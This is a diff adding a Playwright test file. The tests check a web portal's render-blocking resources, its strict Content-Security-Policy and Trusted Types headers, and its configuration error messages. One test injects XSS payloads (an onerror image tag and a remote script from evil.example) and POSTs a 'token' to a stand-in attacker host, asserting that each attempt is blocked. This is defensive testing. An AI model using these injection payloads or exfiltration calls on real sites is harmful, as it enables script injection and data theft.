@@ -1,0 +1,92 @@
+import { expect, signIn, test } from './journey.ts'
+
+test('the login page waits for nothing but one stylesheet before it is drawn', async ({ page }) => {
+  await page.goto('/')
+  await expect(page.getByLabel('Email address')).toBeVisible()
+  const blocking = await page.evaluate(() =>
+    performance
+      .getEntriesByType('resource')
+      .filter((entry) => 'renderBlockingStatus' in entry && entry.renderBlockingStatus === 'blocking')
+      .map(({ name }) => new URL(name).pathname),
+  )
+  expect(blocking).toEqual([expect.stringMatching(/^[/]assets[/].+[.]css$/)])
+})
+
+test('what is served forbids frames around it, foreign scripts and text that becomes HTML', async ({ request }) => {
+  for (const address of ['/', '/app/home/', '/assets/gone.js']) {
+    const answer = await request.get(address, { headers: { Accept: 'text/html' } })
+    expect(answer.status()).toBe(address.startsWith('/assets') ? 404 : 200)
+    const policy = answer.headers()['content-security-policy'] ?? ''
+    expect(policy).not.toMatch(/unsafe|nonce|ws:/)
+    expect(policy).toMatch(/default-src 'none'.*frame-ancestors 'none'; require-trusted-types-for 'script'/)
+    expect(answer.headers()).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer' })
+  }
+})
+
+test.describe('an attack that got into the page', () => {
+  test.use({
+    breaksThePage: true,
+    forbids: /Trusted ?(HTML|Script|Types?)|Content Security Policy/,
+  })
+
+  test('[AUTH-1] makes no text into HTML or a script, and reaches no other host', async ({ page }) => {
+    await signIn(page, 'employee@acme.example')
+    const outcome = await page.evaluate(async () => {
+      const attempt = async (work: () => unknown): Promise<string> => {
+        try {
+          await work()
+          return 'done'
+        } catch (error) {
+          return error instanceof Error ? error.name : 'refused'
+        }
+      }
+      const script = (fill: (element: HTMLScriptElement) => void) => () => {
+        const element = document.createElement('script')
+        fill(element)
+        document.head.append(element)
+      }
+      return {
+        html: await attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=stolen=1>')),
+        text: await attempt(script((element) => (element.text = 'window.stolen = 1'))),
+        address: await attempt(script((element) => (element.src = 'https://evil.example/x.js'))),
+        policy: await attempt(() => {
+          const maker = Reflect.get(window, 'trustedTypes') as TrustedTypesMaker // the browser of the journeys has them
+          return maker.createPolicy('mine', { createHTML: (html: string) => html })
+        }),
+        again: await attempt(() => {
+          const maker = Reflect.get(window, 'trustedTypes') as TrustedTypesMaker // as above
+          return maker.createPolicy('portal-html', { createHTML: (html: string) => html })
+        }),
+        call: await attempt(() => fetch('https://evil.example/', { method: 'POST', body: 'token' })),
+      }
+    })
+    expect(outcome).toEqual({
+      html: 'TypeError',
+      text: 'TypeError',
+      address: 'TypeError',
+      policy: 'TypeError',
+      again: 'TypeError',
+      call: 'TypeError',
+    })
+    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
+  })
+})
+
+test.describe('a configuration that is wrong', () => {
+  test.use({ breaksThePage: true })
+  const configurations = [
+    ['', 'Error: The page holds no portal configuration (#portal-config).'],
+    ['{"hosts":', 'Error: The portal configuration (#portal-config) is not JSON.'],
+    ['{"hosts":{"legacy":"https://a.example"}}', 'Error: The portal configuration is wrong at hosts.versioned.'],
+  ] as const
+  for (const [config, sentence] of configurations)
+    test(`is told in one sentence: ${sentence}`, async ({ page }) => {
+      await page.route('/', async (route) => {
+        const response = await route.fetch()
+        const body = (await response.text()).replace(/(id="portal-config"[^>]*>)[^<]*/, (_, open) => open + config)
+        await route.fulfill({ response, body })
+      })
+      await page.goto('/')
+      await expect(page.getByRole('alert')).toHaveText(sentence)
+    })
+})
